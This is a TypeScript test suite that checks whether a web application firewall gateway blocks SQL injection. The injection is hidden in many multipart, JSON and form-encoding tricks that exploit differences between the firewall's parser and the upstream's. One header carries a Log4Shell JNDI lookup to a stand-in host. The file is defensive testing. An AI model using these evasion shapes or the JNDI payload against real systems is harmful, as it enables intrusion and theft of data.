// WAF evasion, third round (docs/security.md, "Session 25 WAF evasion audit"): request bodies as
// the upstream's own parser reads them (PHP's rfc1867, Python's cgi, Rack, busboy, Go, werkzeug),
// multipart, JSON and form edge cases, the body the WAF saw against the body forwarded, the
// inspection limit, and the open false positives. Real gateways on loopback with the in-process
// WAF (CRS PL1), a recording upstream, exact bytes over a socket (and node:http2 for h2c).
// Set-ups as in waf-evasion-2.test.ts: `strict` the CRS as shipped, `relaxed` without its protocol
// rules, `extra` with `extra-rules "all"`, `agent` sentinel-waf as its own process on a Unix
// socket, `open` a fail-open filter, `h2` an h2c listener.
// needs-data: crs (test/select.ts leaves this file out, loudly, where the data is missing)
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import http2 from 'node:http2';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { BROWSER_UA, leakedProbes, probeRequest as req, probeStatus as status, RELAXED_RULES, startProbeGateway as start, startProbeGatewaySet, startWafAgentProcess, wafConfig as config, type WafAgentProcess } from '../../helpers/waf-probes.ts';
import { startUpstream, type TestUpstream } from '../../helpers/upstream.ts';

const union = "1' UNION SELECT password FROM users--";
const enc = encodeURIComponent;
const FORM = 'Content-Type: application/x-www-form-urlencoded';
const JSON_T = 'Content-Type: application/json';
const MP = 'Content-Type: multipart/form-data; boundary=BND';
/** A multipart body of one part: its Content-Disposition parameters, extra headers, content. */
const part = (params: string, content: string, headers: string[] = []): string =>
  ['--BND', `Content-Disposition: form-data; ${params}`, ...headers, '', content, '--BND--', ''].join('\r\n');
/** A PNG as a `data:` URI, MIME-wrapped as some editors send it. */
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
const DATA_URI = `data:image/png;base64,${PNG.match(/.{1,20}/g)!.join('\r\n')}`;

/** Content-Disposition parameters that make a part a file to the WAF and a form field to some parser. */
const FIELD_TO_SOME_PARSER: [string, string][] = [
  // PHP's rfc1867 (php_ap_getword): the key up to `=` as sent, so `filename ` is no file name
  ['space before = (PHP: a field)', 'name="q"; filename ="a.txt"'],
  ['tab before = (PHP: a field)', 'name="q"; filename\t="a.txt"'],
  // PHP reads a `'` anywhere as opening a quoted run, which swallows the `;`s up to the next one
  ["' in parameter names (PHP: a field)", `name="q"; x'=1; filename="a.txt"; y'=2`],
  // Rack's get_filename: `filename` case-sensitive
  ['FILENAME (Rack: a field)', 'name="q"; FILENAME="a.txt"'],
  // PHP and Python's cgi.FieldStorage read `filename` only (CRS 920120 refuses the `'` as shipped)
  ['filename* alone (PHP, cgi.FieldStorage: a field)', `name="q"; filename*=UTF-8''a.txt`],
];

/** Each must be refused (4xx) and never reach the upstream, under every set-up. */
function attacks(): [string, Buffer][] {
  const a: [string, Buffer][] = [];
  const add = (name: string, bytes: Buffer) => a.push([name, bytes]);
  // fixed: file parts that an upstream reads as form fields
  for (const [name, params] of FIELD_TO_SOME_PARSER) add(`multipart: ${name}`, req('POST', '/x', [MP], part(params, union)));
  // held: multipart
  add('multipart: the plain shape', req('POST', '/x', [MP], part('name="q"', union)));
  add('multipart: a folded filename', req('POST', '/x', [MP], part('name="q";\r\n filename="a.txt"', union)));
  add('multipart: two Content-Disposition headers', req('POST', '/x', [MP], part('name="q"; filename="a.txt"', union, ['Content-Disposition: form-data; name="q"'])));
  add('multipart: name twice', req('POST', '/x', [MP], part('name="a"; name="q"', union)));
  add('multipart: filename twice', req('POST', '/x', [MP], part('name="q"; filename="a.txt"; filename=""', union)));
  add('multipart: a quoted boundary', req('POST', '/x', ['Content-Type: multipart/form-data; boundary="BND"'], part('name="q"', union)));
  add('multipart: two boundaries', req('POST', '/x', ['Content-Type: multipart/form-data; boundary=AAA; boundary=BND'], part('name="q"', union)));
  add('multipart: a \\" in name swallowing filename', req('POST', '/x', [MP], part('name="q\\"; filename=\\"a.txt"', union)));
  add('multipart: a per-part charset', req('POST', '/x', [MP], part('name="q"', union, ['Content-Type: text/plain; charset=utf-8'])));
  add('multipart: JSON in a field part', req('POST', '/x', [MP], part('name="q"', `{"q":"1\\u0027 UNION SELECT password FROM users--"}`, ['Content-Type: application/json'])));
  add('multipart: a delimiter with a suffix inside a file (busboy)', req('POST', '/x', [MP], `--BND\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n\r\nx\r\n--BNDX\r\nContent-Disposition: form-data; name="q"\r\n\r\n${union}\r\n--BND--\r\n`));
  add('multipart: an LF-only delimiter inside a file (Go reads LF delimiters)', req('POST', '/x', [MP], `--BND\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\n\r\nx\n--BND\r\nContent-Disposition: form-data; name="q"\r\n\r\n${union}\r\n--BND--\r\n`));
  // held: JSON
  add('JSON: 1500 levels, then the attack (fails closed)', req('POST', '/x', [JSON_T], `{"d":${'['.repeat(1500)}${']'.repeat(1500)},"q":${JSON.stringify(union)}}`));
  add('JSON: a 600-digit number, then the attack', req('POST', '/x', [JSON_T], `{"n":${'9'.repeat(600)},"q":${JSON.stringify(union)}}`));
  add('JSON: \\u0000 in the value', req('POST', '/x', [JSON_T], `{"q":"1\\u0000' UNION SELECT password FROM users--"}`));
  add('JSON: a lone surrogate before the quote', req('POST', '/x', [JSON_T], `{"q":"1\\ud800' UNION SELECT password FROM users--"}`));
  add('JSON: a UTF-8 BOM', req('POST', '/x', [JSON_T], `\xef\xbb\xbf${JSON.stringify({ q: union })}`));
  add('JSON: a comment (Jackson ALLOW_COMMENTS, Gson lenient)', req('POST', '/x', [JSON_T], `{"q":/*x*/${JSON.stringify(union)}}`));
  add("JSON: single quotes (Gson lenient)", req('POST', '/x', [JSON_T], `{'q':'1\\' UNION SELECT password FROM users--'}`));
  add('JSON: NaN before the attack (Python json)', req('POST', '/x', [JSON_T], `{"n":NaN,"q":${JSON.stringify(union)}}`));
  add('JSON: UTF-16LE (Jackson and Python detect it)', req('POST', '/x', [JSON_T], Buffer.from(JSON.stringify({ q: union }), 'utf16le')));
  add('JSON: the attack in a key', req('POST', '/x', [JSON_T], `{${JSON.stringify(union)}:1}`));
  // held: forms
  add('form: a bare key', req('POST', '/x', [FORM], enc(union)));
  add('form: && and an empty pair', req('POST', '/x', [FORM], `&&=&q=${enc(union)}&&`));
  add('form: % at the end', req('POST', '/x', [FORM], `q=${enc(union)}%`));
  add('form: %%27', req('POST', '/x', [FORM], 'q=1%%27%20UNION%20SELECT%20password%20FROM%20users--'));
  add('form: overlong UTF-8 quote', req('POST', '/x', [FORM], 'q=1%c0%a7%20UNION%20SELECT%20password%20FROM%20users--'));
  add('form: a fullwidth quote', req('POST', '/x', [FORM], 'q=1%ef%bc%87%20UNION%20SELECT%20password%20FROM%20users--'));
  add('form: + in the name', req('POST', '/x', [FORM], `q+=${enc(union)}`));
  add('form: charset=iso-8859-1', req('POST', '/x', [`${FORM}; charset=iso-8859-1`], `q=${enc(union)}`));
  return a;
}

/** Uploads as clients send them, with SQL-looking content (the CRS never reads a file's content). */
function benignUploads(): [string, Buffer][] {
  const sql = "-- seed\nUPDATE users SET name='x' WHERE id=1 OR 1=1;\n";
  return [
    // LF line ends in the content: 400 until session 25 (MULTIPART_LF_LINE counted content lines)
    ['a browser upload (a text file with LF line ends)', req('POST', '/upload', [MP], part('name="file"; filename="seed.sql"', sql, ['Content-Type: application/sql']))],
    ['a field with LF line ends', req('POST', '/upload', [MP], part('name="note"', 'first line\nsecond line'))],
    [".NET's spelling (tokens, filename*)", req('POST', '/upload', [MP], part(`name=file; filename=seed.sql; filename*=utf-8''seed.sql`, sql))],
    ['a quoted file name with spaces and brackets', req('POST', '/upload', [MP], part('name="file"; filename="seed v2 (copy).sql"', sql))],
    // 400 until session 25: filename* first took the place of filename, and filename was a duplicate
    ['filename* before filename', req('POST', '/upload', [MP], part(`name="file"; filename*=utf-8''seed.sql; filename="seed.sql"`, sql))],
    // 400 until session 25: a number longer than 512 characters was a JSON parse error
    ['a JSON number of 600 digits', req('POST', '/n', [JSON_T], `{"n":${'7'.repeat(600)}}`)],
  ];
}

describe('WAF evasion, third round: bodies as the upstream reads them', () => {
  let upstream: TestUpstream;
  const gws: Record<'strict' | 'relaxed' | 'extra' | 'open' | 'h2' | 'agent' | 'tuned' | 'uninspected' | 'wide' | 'wideAgent', { port: number; close: () => Promise<void> }> = {} as never;
  const tmp = mkdtempSync(join(tmpdir(), 'waf-evasion-3-'));
  let agent: WafAgentProcess | undefined;

  before(async () => {
    upstream = await startUpstream();
    Object.assign(gws, await startProbeGatewaySet(upstream.address));
    // request bodies not sent to the agents at all: the WAF still judges the head
    gws.uninspected = await start(config(upstream.address, '', { top: 'waf { body-inspection { inspect-request-body #false } }' }));
    // the gateway sends bodies up to 4 MiB: past the WAF's own max-body-size (1 MiB), and with it raised
    const wide = 'waf { body-inspection { max-inspection-bytes 4194304 } }';
    gws.wide = await start(config(upstream.address, '', { top: wide }));
    gws.wideAgent = await start(config(upstream.address, 'max-body-size 4194304', { top: wide }));
    // the two recipes the docs give for what stays open: a rule exclusion for data: URIs in one
    // argument (the CRS's own false positive), and a form processor for octet-stream forms where
    // 920420 is relaxed for a Bottle application (the session 24 decision)
    const exclusions = join(tmp, 'exclusions.conf');
    writeFileSync(
      exclusions,
      [
        'SecRule REQUEST_FILENAME "@streq /avatar" "id:10100,phase:1,pass,nolog,t:none,ctl:ruleRemoveTargetById=932235;ARGS:json.image,ctl:ruleRemoveTargetById=932260;ARGS:json.image,ctl:ruleRemoveTargetById=934170;ARGS:json.image,ctl:ruleRemoveTargetById=941130;ARGS:json.image,ctl:ruleRemoveTargetById=941170;ARGS:json.image"',
        'SecRule REQUEST_HEADERS:Content-Type "@rx ^application/octet-stream" "id:10101,phase:1,pass,nolog,t:none,t:lowercase,ctl:requestBodyProcessor=URLENCODED"',
        '',
      ].join('\n'),
    );
    gws.tuned = await start(config(upstream.address, `disabled-rules ${RELAXED_RULES}; exclusions-file "${exclusions}"`));
    const socket = join(tmp, 'waf.sock');
    agent = await startWafAgentProcess(socket);
    gws.agent = await start(config(upstream.address, '').replace(/in-process "sentinel-waf"\s*config \{[^}]*\}/, `unix-socket "${socket}"`));
  });

  after(async () => {
    for (const g of Object.values(gws)) await g?.close();
    await upstream?.close();
    await agent?.stop();
    rmSync(tmp, { recursive: true, force: true });
  });

  for (const setup of ['strict', 'relaxed', 'extra', 'agent', 'open'] as const) {
    test(`${setup}: every shape is refused and never reaches the upstream`, async () => {
      assert.deepEqual(await leakedProbes(gws[setup].port, upstream, attacks()), []);
    });
  }

  /** One h2c POST (no content-length: the body in DATA frames); its status. */
  const h2Post = async (port: number, headers: Record<string, string>, body: string): Promise<number> => {
    const session = http2.connect(`http://127.0.0.1:${port}`);
    try {
      const s = session.request({ ':method': 'POST', ':path': '/x', 'user-agent': BROWSER_UA.slice('User-Agent: '.length), accept: 'text/html', ...headers });
      const st = new Promise<number>((resolve, reject) => {
        s.on('response', (h) => resolve(Number(h[':status'])));
        s.on('error', reject);
        s.resume();
      });
      s.end(body);
      return await st;
    } finally {
      session.destroy();
    }
  };

  test('h2c: the file parts an upstream reads as fields are refused and never forwarded', async () => {
    for (const [name, params] of FIELD_TO_SOME_PARSER) {
      const seen = upstream.seen.length;
      assert.equal(await h2Post(gws.h2.port, { 'content-type': 'multipart/form-data; boundary=BND' }, part(params, union)), 403, name);
      assert.equal(upstream.seen.length, seen, name);
    }
  });

  test('uploads as clients send them pass, SQL-looking content and all (strict, extra, agent, h2c)', async () => {
    for (const setup of ['strict', 'extra', 'agent'] as const) {
      for (const [name, bytes] of benignUploads()) {
        const seen = upstream.seen.length;
        assert.equal(await status(gws[setup].port, bytes), 200, `${setup}: ${name}`);
        assert.equal(upstream.seen.length, seen + 1);
      }
    }
    const seen = upstream.seen.length;
    assert.equal(await h2Post(gws.h2.port, { 'content-type': 'multipart/form-data; boundary=BND' }, part('name="file"; filename="seed.sql"', "UPDATE users SET name='x' WHERE id=1 OR 1=1;")), 200);
    assert.equal(upstream.seen.length, seen + 1);
  });

  test('the body forwarded is the body inspected: chunk extensions and trailers are not passed on', async () => {
    const head = `POST /x HTTP/1.1\r\nHost: localhost\r\n${BROWSER_UA}\r\nAccept: text/html\r\nConnection: close\r\n${FORM}\r\nTransfer-Encoding: chunked\r\n`;
    const shapes = [
      ['a trailer', `${head}Trailer: X-Q\r\n\r\n3\r\na=1\r\n0\r\nX-Q: ${union}\r\n\r\n`],
      ['a chunk extension', `${head}\r\n3;q=${enc(union)}\r\na=1\r\n0\r\n\r\n`],
    ] as const;
    for (const [name, bytes] of shapes) {
      const seen = upstream.seen.length;
      assert.equal(await status(gws.strict.port, Buffer.from(bytes, 'latin1')), 200, name);
      assert.equal(upstream.seen.length, seen + 1, name);
      const got = upstream.seen.at(-1)!;
      assert.equal(got.body.toString('latin1'), 'a=1', name);
      assert.equal(got.headers['x-q'], undefined, name);
      assert.doesNotMatch(JSON.stringify(got.headers), /UNION/, name);
    }
  });

  test('a body the agent is not shown (fail-open for its type or size, inspection off): the query, cookies and headers are still judged', async () => {
    const q = `/x?q=${enc(union)}`;
    const head: [string, Buffer][] = [
      ['text/plain', req('POST', q, ['Content-Type: text/plain'], 'hello')],
      ['image/png', req('POST', q, ['Content-Type: image/png'], '\x89PNG\r\n')],
      ['no Content-Type', req('POST', q, [], 'hello')],
      ['application/x-json', req('POST', q, ['Content-Type: application/x-json'], '{}')],
      ['a cookie, text/plain', req('POST', '/x', ['Content-Type: text/plain', `Cookie: q=${enc(union)}`], 'hello')],
      ['Log4Shell in a header, text/plain', req('POST', '/x', ['Content-Type: text/plain', 'X-Api-Version: ${jndi:ldap://evil.example/a}'], 'hello')],
      ['a form over the inspection limit', req('POST', q, [FORM], `pad=${'a'.repeat(1024 * 1024)}`)],
    ];
    // forwarded (200) before: the agent waited for a body that never came, and the CRS blocks in phase 2
    assert.deepEqual(await leakedProbes(gws.open.port, upstream, head), []);
    assert.deepEqual(await leakedProbes(gws.uninspected.port, upstream, head.slice(0, 3)), []);
    // the body itself is still not read: a form is forwarded as it came, inspection off
    const seen = upstream.seen.length;
    assert.equal(await status(gws.uninspected.port, req('POST', '/x', [FORM], `q=${enc(union)}`)), 200);
    assert.equal(upstream.seen.length, seen + 1);
  });

  test("a body past the WAF's own max-body-size is refused 413, not inspected in part (the gateway's limit raised above it)", async () => {
    const padded = req('POST', '/x', [FORM], `pad=${'a'.repeat(1024 * 1024 + 100)}&q=${enc(union)}`);
    const benign = req('POST', '/x', [FORM], `pad=${'a'.repeat(1024 * 1024 + 100)}&q=blue`);
    const seen = upstream.seen.length;
    // forwarded (200) before: the agent inspected its first 1 MiB and let the rest through
    assert.equal(await status(gws.wide.port, padded), 413);
    assert.equal(await status(gws.wide.port, benign), 413);
    assert.equal(upstream.seen.length, seen);
    // with the WAF's limit raised to the gateway's: read whole
    assert.equal(await status(gws.wideAgent.port, padded), 403);
    assert.equal(upstream.seen.length, seen);
    assert.equal(await status(gws.wideAgent.port, benign), 200);
    assert.equal(upstream.seen.length, seen + 1);
  });

  test('past the inspection limit (1 MiB): fail-closed refuses 413 before forwarding; fail-open forwards uninspected, as documented', async () => {
    const padded = req('POST', '/x', [FORM], `pad=${'a'.repeat(1024 * 1024)}&q=${enc(union)}`);
    let seen = upstream.seen.length;
    assert.equal(await status(gws.strict.port, padded), 413);
    assert.equal(upstream.seen.length, seen);
    seen = upstream.seen.length;
    assert.equal(await status(gws.open.port, padded), 200);
    assert.equal(upstream.seen.length, seen + 1);
  });

  test('a data: URI in an argument is the CRS\'s own false positive (ModSecurity scores it the same); the tune-style exclusion lets it through and still reads the argument', async () => {
    const avatar = (image: string) => req('POST', '/avatar', [JSON_T], JSON.stringify({ image }));
    let seen = upstream.seen.length;
    // one line or wrapped: 932235, 932260, 934170, 941130, 941170 (inbound score 25, as ModSecurity's)
    assert.equal(await status(gws.strict.port, avatar(`data:image/png;base64,${PNG}`)), 403);
    assert.equal(await status(gws.strict.port, avatar(DATA_URI)), 403);
    assert.equal(upstream.seen.length, seen);
    seen = upstream.seen.length;
    assert.equal(await status(gws.tuned.port, avatar(DATA_URI)), 200);
    assert.equal(upstream.seen.length, seen + 1);
    assert.equal(await status(gws.tuned.port, avatar(union)), 403);
    assert.equal(await status(gws.tuned.port, req('POST', '/other', [JSON_T], JSON.stringify({ image: DATA_URI }))), 403);
    assert.equal(upstream.seen.length, seen + 1);
  });

  test('relaxed 920420 with the documented form processor for application/octet-stream (a Bottle application): the form is read', async () => {
    const form = req('POST', '/x', ['Content-Type: application/octet-stream'], `a=1&q=${enc(union)}`);
    const seen = upstream.seen.length;
    assert.equal(await status(gws.tuned.port, form), 403);
    assert.equal(upstream.seen.length, seen);
  });
});
